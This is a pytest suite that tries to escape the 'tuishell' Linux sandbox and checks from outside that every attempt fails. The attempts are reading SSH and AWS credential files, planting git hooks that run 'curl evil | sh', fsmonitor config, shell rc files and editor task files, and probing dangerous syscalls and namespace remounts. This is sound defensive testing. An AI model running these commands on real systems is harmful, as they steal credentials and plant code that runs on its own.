"""Every boundary of the Linux sandbox, tried for real through `tuishell run`.

Each test attempts the escape from inside a real bwrap + seccomp sandbox and checks from
*outside* (the host filesystem, the host process table, a host server) that it did not happen.
With the suite running as root, each runs twice: as root and as an unprivileged user.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from conftest import host_processes_matching

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux sandbox")

PY = "python3"


def test_workspace_write_allows_the_workspace_and_refuses_everything_else(who):
    outside = who.home / "notes.txt"
    result = who.sandbox(f"echo made > made.txt; echo evil > {outside}; touch /etc/tuishell-escape; "
                         f"touch {who.home}/new-file; echo ok")
    assert result.returncode == 0, result.stderr
    assert (who.workspace / "made.txt").read_text() == "made\n"
    assert outside.read_text() == "outside the workspace\n"
    assert not Path("/etc/tuishell-escape").exists()
    assert not (who.home / "new-file").exists()
    assert "Read-only file system" in result.stderr


def test_read_only_mode_refuses_workspace_writes_but_tmp_is_writable(who):
    result = who.sandbox("echo x > /tmp/scratch && cat /tmp/scratch && echo y > inside.txt",
                         "--mode", "read-only")
    assert result.returncode != 0
    assert result.stdout == "x\n"
    assert not (who.workspace / "inside.txt").exists()
    assert "read-only mode" in result.stderr  # the denial report names the rule


@pytest.mark.parametrize("mode", ["read-only", "workspace-write"])
def test_a_workspace_under_tmp_stays_visible(who, mode):
    ws = Path(tempfile.mkdtemp(prefix="tuishell-ws-", dir="/tmp"))
    try:
        (ws / "file.txt").write_text("in tmp\n")
        who.chown(ws)
        result = who.sandbox("cat file.txt && echo w > w.txt", "--mode", mode, "--workspace", str(ws), cwd=ws)
        assert result.stdout.startswith("in tmp"), result.stderr
        assert (ws / "w.txt").exists() == (mode == "workspace-write")
    finally:
        shutil.rmtree(ws)


def test_private_tmp_is_not_the_hosts_tmp(who):
    marker = f"tuishell-host-tmp-{os.getpid()}-{who.name}"
    Path("/tmp", marker).write_text("host")
    try:
        result = who.sandbox(f"ls /tmp; test ! -e /tmp/{marker} && echo hidden; echo s > /tmp/from-sandbox")
        assert "hidden" in result.stdout
        assert not Path("/tmp/from-sandbox").exists() or Path("/tmp/from-sandbox").read_text() != "s\n"
    finally:
        Path("/tmp", marker).unlink()


def test_symlink_out_of_the_workspace_cannot_write_or_read_secrets(who):
    os.symlink(who.home / "notes.txt", who.workspace / "link-out")
    os.symlink(who.home / ".ssh" / "id_ed25519", who.workspace / "link-key")
    result = who.sandbox("echo evil > link-out; cat link-key; echo done")
    assert (who.home / "notes.txt").read_text() == "outside the workspace\n"
    assert "SECRET-SSH-KEY" not in result.stdout + result.stderr


def test_hardlink_to_a_file_outside_the_workspace_is_refused(who):
    target = who.home / "notes.txt"
    result = who.sandbox(f"ln {target} hl && echo linked; echo evil >> hl; echo done")
    assert "linked" not in result.stdout
    assert target.read_text() == "outside the workspace\n"


@pytest.mark.parametrize("path", [".ssh/id_ed25519", ".aws/credentials", ".netrc"])
def test_credentials_are_unreadable(who, path):
    result = who.sandbox(f"ls -la ~/.ssh ~/.aws; cat ~/{path}")
    assert "SECRET" not in result.stdout + result.stderr
    assert result.returncode != 0
    assert "unreadable" in result.stderr  # the denial report says which rule


def test_denied_read_from_settings_is_unreadable_and_allow_read_reopens_a_child(who):
    private = who.home / "private"
    (private / "shared").mkdir(parents=True)
    (private / "diary.txt").write_text("SECRET-DIARY\n")
    (private / "shared" / "ok.txt").write_text("fine to read\n")
    who.config.joinpath("settings.toml").write_text(
        f'[filesystem]\ndenyRead = ["~/private"]\nallowRead = ["~/private/shared"]\n')
    who.chown(who.config)
    result = who.sandbox("cat ~/private/diary.txt; cat ~/private/shared/ok.txt")
    assert "SECRET-DIARY" not in result.stdout
    assert "fine to read" in result.stdout


def test_existing_git_hooks_and_config_are_read_only_but_commits_work(who):
    result = who.sandbox(
        "echo 'exit 1' > .git/hooks/pre-commit; echo '[core] hooksPath=/tmp' >> .git/config;"
        " mv .git g2; echo change >> README;"
        " git -c user.name=a -c user.email=a@a commit -qam change && echo committed")
    assert "committed" in result.stdout, result.stderr
    assert not (who.workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "hooksPath" not in (who.workspace / ".git" / "config").read_text()
    assert (who.workspace / ".git").is_dir() and not (who.workspace / "g2").exists()
    log = subprocess.run(["git", "-c", "safe.directory=*", "-C", str(who.workspace), "log", "--oneline"],
                         capture_output=True, text=True,
                         env={"PATH": os.defpath, "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent"})
    assert "change" in log.stdout


def test_nested_repository_hooks_are_protected_at_depth(who):
    deep = who.workspace / "a" / "b" / "c" / "d" / "e"
    deep.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(deep)], check=True)
    who.chown(who.workspace)
    result = who.sandbox("echo evil > a/b/c/d/e/.git/hooks/post-checkout; echo '[x]' >> a/b/c/d/e/.git/config")
    assert not (deep / ".git" / "hooks" / "post-checkout").exists()
    assert "[x]" not in (deep / ".git" / "config").read_text()
    assert "Read-only file system" in result.stderr


def test_repository_created_by_the_command_keeps_no_hooks(who):
    result = who.sandbox(
        "mkdir -p sub/deeper && cd sub/deeper && git init -q new && cd new"
        " && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"
        " && echo x > f && git add f && git -c user.name=a -c user.email=a@a commit -qm first && echo committed")
    assert "committed" in result.stdout, result.stderr
    repo = who.workspace / "sub" / "deeper" / "new"
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert any(p.name.endswith(".sample") for p in (repo / ".git" / "hooks").iterdir())
    assert (repo / ".git" / "config").exists()  # a config git init writes is safe and kept
    assert "pre-commit" in result.stderr and "moved to" in result.stderr
    quarantined = list((who.config / "state" / "quarantine").rglob("pre-commit"))
    assert quarantined and "pwned" in quarantined[0].read_text()


def test_hooks_in_a_configured_hooks_path_are_protected_like_git_hooks(who):
    git = ["git", "-c", "safe.directory=*", "-C", str(who.workspace)]
    subprocess.run([*git, "config", "core.hooksPath", ".husky"], check=True)
    (who.workspace / ".husky").mkdir()
    (who.workspace / ".husky" / "pre-commit").write_text("npm test\n")
    who.chown(who.workspace)
    result = who.sandbox("echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/post-merge; echo done")
    assert (who.workspace / ".husky" / "pre-commit").read_text() == "npm test\n"
    assert not (who.workspace / ".husky" / "post-merge").exists()
    assert "Read-only file system" in result.stderr


def test_a_configured_hooks_path_created_by_the_command_is_quarantined(who):
    subprocess.run(["git", "-c", "safe.directory=*", "-C", str(who.workspace), "config", "core.hooksPath",
                    "githooks"], check=True)
    who.chown(who.workspace)
    result = who.sandbox("mkdir githooks && echo evil > githooks/pre-commit && chmod +x githooks/pre-commit")
    assert not (who.workspace / "githooks").exists()
    assert "blocked create" in result.stderr


def test_new_repository_config_that_runs_code_is_quarantined(who):
    who.sandbox("git init -q r && git -C r config core.fsmonitor 'touch /tmp/pwn'")
    assert not (who.workspace / "r" / ".git" / "config").exists()


@pytest.mark.parametrize("name", [".bashrc", ".envrc", ".vscode/tasks.json", ".tuishell/settings.toml",
                                  "pkg/.gitmodules", "x/y/z/.zshrc", "x/.idea/workspace.xml"])
def test_protected_names_that_do_not_exist_yet_cannot_be_planted(who, name):
    result = who.sandbox(f"mkdir -p $(dirname {name}) && echo evil > {name} && echo written")
    assert not (who.workspace / name).exists()
    assert "blocked create" in result.stderr


def test_renaming_a_parent_to_plant_a_fresh_protected_name_is_caught(who):
    (who.workspace / "sub" / ".vscode").mkdir(parents=True)
    (who.workspace / "sub" / ".vscode" / "settings.json").write_text("{}")
    who.chown(who.workspace)
    result = who.sandbox("mv sub sub2 && mkdir -p sub/.vscode && echo '{\"evil\":1}' > sub/.vscode/tasks.json")
    assert not (who.workspace / "sub" / ".vscode").exists()
    assert (who.workspace / "sub2" / ".vscode" / "settings.json").read_text() == "{}"
    assert "blocked create" in result.stderr


def test_tuishell_settings_are_unwritable_even_inside_a_writable_root(who):
    (who.config / "settings.toml").write_text(f'[filesystem]\nallowWrite = ["{who.config}"]\n')
    who.chown(who.config)
    result = who.sandbox(f"echo '[network]' >> {who.config}/settings.toml; touch {who.config}/other; echo done")
    assert "[network]" not in (who.config / "settings.toml").read_text()
    assert not (who.config / "other").exists()
    assert "Read-only" in result.stderr


def test_tuishell_state_is_hidden(who):
    state = who.config / "state"
    state.mkdir()
    (state / "audit.jsonl").write_text("SECRET-AUDIT\n")
    who.chown(state)
    result = who.sandbox(f"cat {state}/audit.jsonl; ls {state}")
    assert "SECRET-AUDIT" not in result.stdout


class _UnixServer:
    def __init__(self, path: Path, uid: int):
        self.accepted = 0
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.bind(str(path))
        os.chown(path, uid, -1) if os.geteuid() == 0 else None
        self.sock.listen()
        self.sock.settimeout(0.2)
        self._stop = False
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self):
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.accepted += 1
            conn.sendall(b"daemon says hi\n")
            conn.close()

    def close(self):
        self._stop = True
        self.thread.join()
        self.sock.close()


@pytest.mark.parametrize("allowed", [False, True])
def test_unix_socket_to_a_host_daemon_is_refused_unless_allowed(who, allowed):
    sock_path = who.base / "daemon.sock"
    server = _UnixServer(sock_path, who.uid)
    try:
        if allowed:
            (who.config / "settings.toml").write_text("[network]\nallowUnixSockets = true\n")
            who.chown(who.config)
        code = (f"import socket; s=socket.socket(socket.AF_UNIX); s.connect({str(sock_path)!r}); "
                "print(s.recv(100).decode())")
        result = who.sandbox(f"{PY} -c \"{code}\"")
    finally:
        server.close()
    if allowed:  # the positive control: the same client reaches the daemon when the rule allows it
        assert "daemon says hi" in result.stdout, result.stderr
        assert server.accepted == 1
    else:
        assert server.accepted == 0
        assert "Operation not permitted" in result.stderr
        assert "unix sockets" in result.stderr  # the report names the rule


def test_tcp_to_a_host_server_on_loopback_is_unreachable(who):
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    port = server.getsockname()[1]
    try:
        code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=3); print('connected')"
        result = who.sandbox(f"{PY} -c \"{code}\"; {PY} -c \"import socket; socket.create_connection(('1.1.1.1', 53), timeout=3)\"")
        with pytest.raises(socket.timeout):
            server.accept()
    finally:
        server.close()
    assert "connected" not in result.stdout
    assert "network" in result.stderr


def test_loopback_inside_the_sandbox_works_for_its_own_servers(who):
    code = ("import socket,threading; s=socket.create_server(('127.0.0.1',0)); p=s.getsockname()[1];"
            "threading.Thread(target=lambda: s.accept()[0].sendall(b'self'),daemon=True).start();"
            "print(socket.create_connection(('127.0.0.1',p)).recv(9).decode())")
    result = who.sandbox(f"{PY} -c \"{code}\"")
    assert result.stdout.strip() == "self", result.stderr


SYSCALL_PROBE = r"""
import ctypes, errno, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    rc = getattr(libc, name)(*args)
    return 'EPERM' if rc == -1 and ctypes.get_errno() == errno.EPERM else f'rc={rc} errno={ctypes.get_errno()}'
print('ptrace', call('ptrace', 0, 0, 0, 0))
print('process_vm_readv', call('syscall', 310, os.getppid(), 0, 0, 0, 0, 0))
print('io_uring_setup', call('syscall', 425, 1, 0))
print('keyctl', call('syscall', 250, 0, 0, 0, 0, 0))
print('tiocsti', call('ioctl', 0, 0x5412, ctypes.c_char_p(b'x')))
print('userns', call('unshare', 0x10000000))
print(open('/proc/self/status').read())
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="syscall numbers in the probe are x86_64's")
def test_dangerous_syscalls_are_refused_and_no_privileges_remain(who):
    (who.workspace / "probe.py").write_text(SYSCALL_PROBE)
    result = who.sandbox(f"{PY} probe.py")
    lines = dict(line.split(" ", 1) for line in result.stdout.splitlines()[:6])
    assert lines == {k: "EPERM" for k in ("ptrace", "process_vm_readv", "io_uring_setup", "keyctl",
                                          "tiocsti", "userns")}, result.stdout + result.stderr
    status = result.stdout
    assert "CapEff:\t0000000000000000" in status
    assert "CapBnd:\t0000000000000000" in status
    assert "NoNewPrivs:\t1" in status
    assert "Seccomp:\t2" in status


def test_nested_user_namespace_cannot_remount_read_only_paths(who):
    result = who.sandbox("unshare -Urm sh -c 'mount -o remount,rw / && touch /etc/pwned && echo remounted'")
    assert "remounted" not in result.stdout
    assert not Path("/etc/pwned").exists()


def test_host_processes_are_invisible(who):
    marker = f"tuishell-visible-{os.getpid()}"
    host = subprocess.Popen(["sleep", "300", marker], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) \
        if False else subprocess.Popen(["sh", "-c", f"exec -a {marker} sleep 300"])
    try:
        result = who.sandbox("cat /proc/[0-9]*/cmdline | tr '\\0' ' '; echo; ls -d /proc/[0-9]* | wc -l")
    finally:
        host.kill()
        host.wait()
    assert marker not in result.stdout
    assert int(result.stdout.split()[-1]) < 10


def test_timeout_kills_the_whole_tree_including_daemons(who):
    marker = f"98765{os.getpid() % 1000}"
    result = who.sandbox(f"setsid sleep {marker} & (nohup sleep {marker} &) ; sleep {marker}", "--timeout", "1")
    assert result.returncode == 124
    assert "timed out" in result.stderr
    time.sleep(0.2)
    assert host_processes_matching(f"sleep {marker}") == []


def test_background_processes_die_when_the_command_ends(who):
    marker = f"97531{os.getpid() % 1000}"
    result = who.sandbox(f"(setsid sleep {marker} &); echo started")
    assert result.returncode == 0 and "started" in result.stdout
    time.sleep(0.2)
    assert host_processes_matching(f"sleep {marker}") == []


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
def test_stopping_tuishell_leaves_no_orphans(who, sig):
    marker = f"96420{os.getpid() % 1000}{int(sig)}"
    proc = who.popen("run", "--", "sh", "-c", f"setsid sleep {marker} & echo ready; sleep {marker}",
                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout.readline().strip() == "ready"
    proc.send_signal(sig)
    proc.wait(timeout=30)
    if sig != signal.SIGKILL:
        assert proc.returncode == 130
    deadline = time.monotonic() + 10
    while host_processes_matching(f"sleep {marker}") and time.monotonic() < deadline:
        time.sleep(0.05)
    assert host_processes_matching(f"sleep {marker}") == []


def test_secrets_in_the_environment_stay_outside_unless_passed_explicitly(who):
    env = {"MY_API_TOKEN": "tok-123", "AWS_SECRET_ACCESS_KEY": "aws-456", "DB_PASSWORD": "pw-789",
           "GITHUB_TOKEN": "gh-000", "EDITOR": "vi"}
    result = who.sandbox("env", env=env)
    for value in ("tok-123", "aws-456", "pw-789", "gh-000"):
        assert value not in result.stdout
    assert "EDITOR=vi" in result.stdout
    explicit = who.sandbox("env", "--env", "MY_API_TOKEN", "--env", "EXTRA=given", env=env)
    assert "MY_API_TOKEN=tok-123" in explicit.stdout
    assert "EXTRA=given" in explicit.stdout
    assert "aws-456" not in explicit.stdout
